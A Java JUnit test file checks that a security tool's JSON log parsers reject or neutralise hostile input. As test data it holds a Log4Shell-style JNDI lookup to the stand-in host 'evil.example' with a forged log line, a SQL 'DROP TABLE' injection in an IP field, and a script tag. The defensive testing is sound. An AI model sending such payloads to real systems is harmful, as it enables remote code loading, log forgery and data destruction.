package org.trustwatch.ingest.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.trustwatch.ingest.LogParser;
import org.trustwatch.ingest.report.SelfReportParser;
import org.trustwatch.schema.EndpointEvent;

/** What every JSON reader of this package does with input meant to hurt it. */
class HostileInputTest {

    static final int MIB = 1024 * 1024;

    static Stream<Arguments> parsers() {
        return Stream.of(
                Arguments.of("winlogbeat", (Supplier<LogParser>) () -> new WinlogbeatParser(Collected.context())),
                Arguments.of("nxlog", (Supplier<LogParser>) () -> new NxlogParser(Collected.context())),
                Arguments.of("evtx-json", (Supplier<LogParser>) () -> new EvtxJsonParser(Collected.context())),
                Arguments.of("mdm", (Supplier<LogParser>) () -> new MdmParser(Collected.context())),
                Arguments.of("reports", (Supplier<LogParser>) () -> new SelfReportParser(Collected.context())));
    }

    /** A reason quotes little of the input and fits in a log line. */
    private static void assertShortReasons(Collected c, String input) {
        for (Collected.Reject r : c.rejects) {
            assertTrue(
                    r.reason().length() <= 200, "reason too long: " + r.reason().length());
            assertFalse(r.reason().contains("\n"), "reason has a line break");
            if (input.length() > 100) {
                for (int i = 0; i + 100 <= input.length(); i += 50) {
                    assertFalse(r.reason().contains(input.substring(i, i + 100)), "reason echoes the input");
                }
            }
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("parsers")
    void deepNestingIsRejectedNotAStackOverflow(String name, Supplier<LogParser> parser) {
        String deep = "{\"a\":".repeat(5000) + "1" + "}".repeat(5000);
        Collected c = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Collected.parse(parser.get(), deep));
        assertEquals(
                "JSON nested more than " + JsonSupport.MAX_DEPTH + " levels deep: not a log event, rejected",
                c.onlyReason());
        assertShortReasons(c, deep);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("parsers")
    void oneMebibyteOfGarbageIsRejectedWithAShortReason(String name, Supplier<LogParser> parser) {
        String garbage = "\u0000\u001b[2J<script>".repeat(MIB / 16);
        Collected c = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Collected.parse(parser.get(), garbage));
        assertEquals(1, c.rejects.size());
        assertTrue(c.events.isEmpty());
        assertShortReasons(c, garbage);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("parsers")
    void oneMebibyteJsonOfQuotesAndBracesIsHandledQuickly(String name, Supplier<LogParser> parser) {
        String braces = "{\"x\":\"" + "}{\\\"".repeat(MIB / 4) + "\"";
        Collected c = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Collected.parse(parser.get(), braces));
        assertEquals(1, c.rejects.size(), "an unterminated object is rejected once");
        assertShortReasons(c, braces);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("parsers")
    void duplicateKeysAreRejected(String name, Supplier<LogParser> parser) {
        String dup = "{\"time\":\"2025-03-10T09:00:00Z\",\"time\":\"2025-03-11T09:00:00Z\"}";
        assertEquals(
                "key 'time' appears twice in one JSON object: ambiguous, rejected",
                Collected.parse(parser.get(), dup).onlyReason());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("parsers")
    void binaryAndInvalidUtf8AreRejectedOrReadNeverThrown(String name, Supplier<LogParser> parser) {
        Collected c = Collected.parse(parser.get(), "\uFFFD\uFFFD\u0001PK\u0003\u0004", "{\"\uFFFD\":", "}}}}", "]");
        assertTrue(c.events.isEmpty());
        assertFalse(c.rejects.isEmpty());
    }

    @Test
    void byteOrderMarkOfAWindowsExportIsIgnored() {
        assertEquals(
                1,
                Collected.parse(new NxlogParser(Collected.context()), "\uFEFF" + NxlogParserTest.KERBEROS_FAILURE)
                        .events
                        .size());
        assertEquals(
                1,
                Collected.parse(new WinlogbeatParser(Collected.context()), "\uFEFF" + WinlogbeatParserTest.FAILED_LOGON)
                        .events
                        .size());
        assertEquals(
                1,
                Collected.parse(new EvtxJsonParser(Collected.context()), "\uFEFF" + EvtxJsonParserTest.JSONL_4625)
                        .events
                        .size());
        assertEquals(
                1,
                Collected.parse(
                                new MdmParser(Collected.context()),
                                "\uFEFF{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"A\",\"action\":\"wiped\"}")
                        .events
                        .size());
    }

    @Test
    void hugeAccountNameIsCutNotPassedOn() {
        String huge = "x".repeat(MIB);
        String line = WinlogbeatParserTest.FAILED_LOGON.replace(" 21smithj ", huge);
        EndpointEvent e =
                Collected.parse(new WinlogbeatParser(Collected.context()), line).only(EndpointEvent.class);
        assertEquals(256, e.getUserName().length());
    }

    @Test
    void hugeIrrelevantFieldIsSkipped() {
        String line = WinlogbeatParserTest.FAILED_LOGON.replace(
                "\"message\":\"An account failed", "\"message\":\"" + "y".repeat(MIB - 5000) + " An account failed");
        assertEquals(
                "logon-failed",
                Collected.parse(new WinlogbeatParser(Collected.context()), line)
                        .only(EndpointEvent.class)
                        .getEventAction());
    }

    @Test
    void controlCharactersInvalidUtf8AndInjectionStayInertText() {
        String line = NxlogParserTest.KERBEROS_FAILURE.replace(
                "\"TargetUserName\":\"21smithj\"",
                "\"TargetUserName\":\"${jndi:ldap://evil.example/a}\\r\\nFAKE 4624 success\\u0007\"");
        line = line.replace("WOH-DC-01.woh.sch.uk", "WOH-DC-\uFFFD1");
        EndpointEvent e =
                Collected.parse(new NxlogParser(Collected.context()), line).only(EndpointEvent.class);
        assertEquals("${jndi:ldap://evil.example/a}  FAKE 4624 success", e.getUserName());
        assertEquals("woh-dc-\uFFFD1", e.getHostName(), "a replacement character does not break the line");
    }

    @Test
    void garbageIpAddressIsDroppedNotPassedOn() {
        String line = NxlogParserTest.KERBEROS_FAILURE.replace("::ffff:10.20.31.77", "10.0.0.1; DROP TABLE users");
        EndpointEvent e =
                Collected.parse(new NxlogParser(Collected.context()), line).only(EndpointEvent.class);
        assertEquals(null, e.getSourceIp());
        assertEquals("21smithj", e.getUserName());
    }

    @Test
    void longKeyNamesAreRefused() {
        String line = "{\"" + "k".repeat(5000) + "\":1}";
        String reason =
                Collected.parse(new NxlogParser(Collected.context()), line).onlyReason();
        assertTrue(reason.startsWith("JSON exceeds a size limit"), reason);
    }
}
